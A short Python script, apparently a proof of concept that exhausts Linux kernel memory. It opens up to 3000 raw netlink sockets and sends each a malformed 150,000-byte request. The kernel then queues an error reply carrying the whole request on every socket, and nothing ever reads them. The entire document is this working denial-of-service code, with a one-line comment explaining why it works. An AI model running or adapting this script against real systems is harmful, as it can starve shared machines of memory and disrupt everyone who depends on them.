# Each wrong request leaves an error with all of it in the queue of its socket, which nobody reads.
import socket
import struct
import time

request = struct.pack("=IHHII", 16 + 150_000, 0x7FF0, 5, 1, 0) + bytes(150_000)
held = []
try:
    for _ in range(3000):
        held.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
        held[-1].send(request)
except OSError as error:
    print(len(held), error.strerror)
time.sleep(0.5)
